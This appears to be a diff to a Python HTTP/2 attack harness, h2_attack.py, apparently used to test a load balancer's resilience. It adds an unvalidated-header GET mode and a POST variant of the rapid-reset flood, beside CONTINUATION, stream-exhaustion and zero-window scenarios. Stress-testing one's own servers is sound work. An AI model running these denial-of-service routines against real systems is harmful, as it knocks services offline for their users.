@@ -2,7 +2,8 @@
 framing, raw frames where h2 would refuse to misbehave). Each scenario
 prints one JSON line with what the server did.
 
-  h2_attack.py rapid_reset HOST PORT N DELAY_MS
+  h2_attack.py rapid_reset HOST PORT N DELAY_MS [post]
+  h2_attack.py get HOST PORT PATH AUTHORITY
   h2_attack.py continuation HOST PORT N
   h2_attack.py streams HOST PORT N PATH
   h2_attack.py zero_window HOST PORT N PATH HOLD_S
@@ -77,7 +78,37 @@ def pump_events(s, c, until, out):
             return
 
 
-def rapid_reset(host, port, n, delay_ms):
+def get(host, port, path, authority):
+    """One request with this :path and :authority, unvalidated; its status."""
+    s = connect(host, port)
+    c = h2.connection.H2Connection(h2.config.H2Configuration(
+        client_side=True, header_encoding=None, validate_outbound_headers=False,
+        normalize_outbound_headers=False))
+    c.initiate_connection()
+    sid = c.get_next_available_stream_id()
+    c.send_headers(sid, [(":method", "GET"), (":path", path), (":scheme", "http"),
+                         (":authority", authority)], end_stream=True)
+    s.sendall(c.data_to_send())
+    out = {"events": {}}
+    s.settimeout(0.05)
+    until = time.time() + 5
+    while time.time() < until and "status" not in out:
+        try:
+            data = s.recv(65536)
+        except socket.timeout:
+            continue
+        if not data:
+            break
+        for e in c.receive_data(data):
+            if isinstance(e, h2.events.ResponseReceived):
+                out["status"] = int(dict(e.headers)[b":status"])
+            if isinstance(e, h2.events.StreamReset):
+                out["reset"] = str(e.error_code)
+        s.sendall(c.data_to_send())
+    return out
+
+
+def rapid_reset(host, port, n, delay_ms, with_body=False):
     s = connect(host, port)
     c = h2conn()
     s.sendall(c.data_to_send())
@@ -85,7 +116,11 @@ def rapid_reset(host, port, n, delay_ms):
     for i in range(n):
         try:
             sid = c.get_next_available_stream_id()
-            c.send_headers(sid, request_headers("/slow", f"{host}:{port}"), end_stream=True)
+            hdrs = request_headers("/slow", f"{host}:{port}")
+            if with_body:
+                # A POST whose body never comes: ringlb is reading it when the reset lands.
+                hdrs[0] = (":method", "POST")
+            c.send_headers(sid, hdrs, end_stream=not with_body)
             s.sendall(c.data_to_send())
             if delay_ms:
                 pump_events(s, c, time.time() + delay_ms / 1000, out)
@@ -199,7 +234,9 @@ def main():
     what, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
     a = sys.argv[4:]
     if what == "rapid_reset":
-        out = rapid_reset(host, port, int(a[0]), int(a[1]))
+        out = rapid_reset(host, port, int(a[0]), int(a[1]), len(a) > 2 and a[2] == "post")
+    elif what == "get":
+        out = get(host, port, a[0], a[1])
     elif what == "continuation":
         out = continuation(host, port, int(a[0]))
     elif what == "streams":
